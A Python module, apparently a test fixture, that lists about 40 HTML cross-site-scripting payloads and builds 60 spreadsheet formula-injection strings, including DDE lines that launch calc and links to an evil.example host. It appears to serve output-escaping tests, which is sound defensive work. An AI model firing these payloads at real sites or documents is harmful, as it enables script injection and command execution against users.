"""Text that tries to leave the place it is printed in: 40 payloads for HTML, 60 for spreadsheets."""

XSS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '" autofocus onfocus=alert(1) x="',
    "`onmouseover=alert(1)`",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${alert(1)} $\\unicode[goombafoo;color:red]{x}$ \\(\\href{javascript:alert(1)}{x}\\)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028</p>\u202e<script\x00>alert(1)\x07",
    "＜script＞alert(1)＜/script＞",
)

_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66", "|", "%")
_HIDDEN = ("", "\u200b", "\ufeff", " ", "\u2060\u200d", "\u00a0", "\u3000", "\u202e")
FORMULAS = tuple(
    [hidden + start + "HYPERLINK(0)" for start in _STARTS[:6] for hidden in _HIDDEN]
    + [start + "cmd|' /C calc'!A0" for start in _STARTS[6:]]
    + ["\n=1+1", "\r\n@SUM(1)", "\x00=1", "=\u200b1+1"]
)
